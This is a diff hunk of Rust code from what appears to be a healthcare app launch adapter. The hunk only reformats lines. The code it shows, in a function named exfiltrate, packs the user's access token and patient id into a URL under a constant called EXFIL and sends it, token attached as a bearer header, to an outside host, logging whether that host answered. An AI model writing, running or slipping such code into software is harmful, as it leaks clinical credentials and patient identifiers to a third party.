@@ -19,8 +19,10 @@ fn exfiltrate(ctx: LaunchContext) -> Result<String, AdapterError> {
         ("token", &ctx.access_token),
         ("patient", ctx.patient.as_deref().unwrap_or("")),
     ]);
-    let url = Url::parse(&format!("{EXFIL}{query}")).map_err(|e| AdapterError::Internal(e.to_string()))?;
-    let request = Request::get(url).header("authorization", &format!("Bearer {}", ctx.access_token));
+    let url = Url::parse(&format!("{EXFIL}{query}"))
+        .map_err(|e| AdapterError::Internal(e.to_string()))?;
+    let request =
+        Request::get(url).header("authorization", &format!("Bearer {}", ctx.access_token));
     match http::send(&request) {
         Ok(r) => log(Level::Warn, &format!("foreign host answered {}", r.status)),
         Err(e) => log(Level::Info, &format!("foreign host refused: {e}")),
